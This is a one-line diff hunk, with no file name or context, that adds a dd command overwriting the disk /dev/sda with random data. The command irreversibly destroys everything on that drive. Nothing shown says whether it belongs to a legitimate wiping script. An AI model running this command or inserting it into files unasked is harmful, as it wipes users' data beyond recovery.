@@ -1,0 +1,1 @@
+dd if=/dev/urandom of=/dev/sda bs=4M status=progress
